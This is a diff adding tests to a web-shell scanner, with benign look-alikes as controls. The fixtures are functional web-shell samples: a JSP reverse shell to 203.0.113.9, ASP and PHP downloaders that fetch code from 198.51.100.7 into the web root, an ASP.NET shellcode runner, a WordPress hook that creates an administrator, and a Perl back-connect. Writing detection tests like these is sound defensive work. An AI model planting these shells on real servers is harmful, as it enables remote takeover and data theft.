@@ -125,6 +125,45 @@ describe('scan: JSP and ASP.NET shapes of session 21, samples of our own', () =>
   });
 });
 
+describe('scan: shapes found missing in the third held-out set, samples of our own', () => {
+  const cases: [string, string, string][] = [
+    ['an ASP.NET shellcode runner', '/www/sc.aspx', `<%@ Page Language="C#" %><script runat="server">[System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, int t, IntPtr p); [System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr f, IntPtr p, int c, ref IntPtr id); void Page_Load(object o, EventArgs e) { byte[] b = new byte[] { 0x90, 0x90, 0xc3 }; IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, (IntPtr)0x40); System.Runtime.InteropServices.Marshal.Copy(b, 0, m, b.Length); IntPtr id = IntPtr.Zero; CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, ref id); }</script>`],
+    ['classic ASP fetching a file and saving it as a page', '/www/d.asp', `<%\nSet h = CreateObject("MSXML2.ServerXMLHTTP")\nh.Open "GET", "http://198.51.100.7/a.txt", False\nh.Send\nSet st = CreateObject("ADODB.Stream")\nst.Type = 1\nst.Open\nst.Write h.responseBody\nst.SaveToFile Server.MapPath("cache.asp"), 2\n%>`],
+    ['a handler whose own command language runs a program from the request', '/www/h.ashx', `<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web; using System.Diagnostics;\npublic class H : IHttpHandler { public bool IsReusable { get { return false; } }\npublic void ProcessRequest(HttpContext context) { string line = context.Request.Form["q"]; context.Response.Write(Dispatch(line)); }\nstring Dispatch(string line) { if (line.StartsWith("run ")) { string exe = line.Substring(4); return Run(exe); } return "?"; }\nstring Run(string exe) { Process.Start(exe); return "ok"; } }`],
+    ['a JSP reverse shell', '/www/rs.jsp', `<%@page import="java.io.*,java.net.*"%><% Socket s = new Socket("203.0.113.9", 4444); Process p = Runtime.getRuntime().exec("/bin/sh"); InputStream pi = p.getInputStream(); OutputStream so = s.getOutputStream(); InputStream si = s.getInputStream(); OutputStream po = p.getOutputStream(); byte[] b = new byte[4096]; int n; while ((n = si.read(b)) > 0) { po.write(b, 0, n); po.flush(); while (pi.available() > 0) so.write(pi.read()); } %>`],
+    ['a JSP defining a class by reflection from decrypted request bytes', '/www/dc.jsp', `<%@page import="javax.crypto.*,javax.crypto.spec.*"%><% byte[] b = java.util.Base64.getDecoder().decode(request.getReader().readLine()); Cipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec("0123456789abcdef".getBytes(), "AES")); b = c.doFinal(b); java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); ((Class) m.invoke(getClass().getClassLoader(), b, 0, b.length)).newInstance().equals(pageContext); %>`],
+  ];
+  for (const [name, path, src] of cases) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  const php: [string, string][] = [
+    ['a downloader of text saved as PHP in the web root', `<?php $t = file_get_contents('http://198.51.100.7/up.txt'); $f = fopen($_SERVER['DOCUMENT_ROOT'] . '/images/up.php', 'w'); fwrite($f, $t); fclose($f);`],
+    ['a WordPress hook creating an administrator from the request', `<?php add_action('init', function () { if (isset($_GET['mk'])) { $id = wp_create_user($_GET['u'], $_GET['p']); (new WP_User($id))->set_role('administrator'); } });`],
+    ['a Perl back-connect dropped in /tmp and run in the background', `<?php function run($c) { return shell_exec($c); } $ip = $_POST['ip']; $port = $_POST['port']; file_put_contents('/tmp/.p', base64_decode('dXNlIFNvY2tldDs=')); run("perl /tmp/.p $ip $port &");`],
+  ];
+  for (const [name, src] of php) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src);
+      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
+    });
+  }
+  it('flagged: a register_globals command form', () => {
+    const r = scan(`<?php if (!empty($cmd)) { echo '<pre>'; system($cmd); echo '</pre>'; } ?><form method="post"><input name="cmd"><input type="submit"></form>`);
+    assert.notEqual(r.verdict, 'clean');
+  });
+  it('not malicious: a plugin creating an editor from its settings page', () => {
+    const src = `<?php add_action('admin_init', function () { if (current_user_can('create_users') && isset($_POST['new_editor'])) { check_admin_referer('mk'); $id = wp_create_user(sanitize_user($_POST['login']), wp_generate_password()); (new WP_User($id))->set_role('editor'); } });`;
+    assert.notEqual(scan(src).verdict, 'malicious');
+  });
+  it('not malicious: an updater fetching a release and saving it as a zip', () => {
+    const src = `<?php $z = file_get_contents('https://downloads.example.org/release-2.1.zip'); file_put_contents(__DIR__ . '/update.zip', $z); echo 'saved';`;
+    assert.notEqual(scan(src).verdict, 'malicious');
+  });
+});
+
 describe('scan: PHP 7 reads a bare word as its own name (an undefined constant)', () => {
   it('a called group of bare words and literals is folded to the name', () => {
     assert.equal(foldVariables(`<?php (sy.(st).'em')($_GET['c']);`), `<?php ('system')($_GET['c']);`);
